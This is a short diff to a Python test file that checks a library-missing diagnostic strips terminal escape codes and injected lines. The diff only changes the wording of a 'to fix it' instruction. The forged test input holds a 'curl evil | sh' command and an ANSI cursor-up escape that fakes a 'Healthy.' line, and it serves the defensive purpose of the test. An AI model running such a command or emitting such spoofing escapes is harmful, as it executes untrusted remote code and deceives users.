@@ -35,7 +35,7 @@ def test_text_has_nothing_that_a_terminal_acts_on(text: str, shown: str) -> None
 
 
 def test_a_diagnosis_has_no_lines_but_its_own() -> None:
-    forged = "x\x1b[1A\nHealthy.\nTo mend it, type:\ncurl evil | sh"
+    forged = "x\x1b[1A\nHealthy.\nTo fix it, run:\ncurl evil | sh"
     problem = LibraryMissing(
         forged, wanted=forged, found=forged, where=(forged,), commands=("pip install x",)
     )
@@ -43,7 +43,7 @@ def test_a_diagnosis_has_no_lines_but_its_own() -> None:
     assert "\x1b" not in str(problem)
     assert [line for line in lines if not line.startswith("  ")] == [
         f"{output.neutral(forged)} [{problem.code}]",
-        "To mend it, type:",
+        "To fix it, run:",
         "pip install x",
     ]
     assert "\n" not in problem.headline
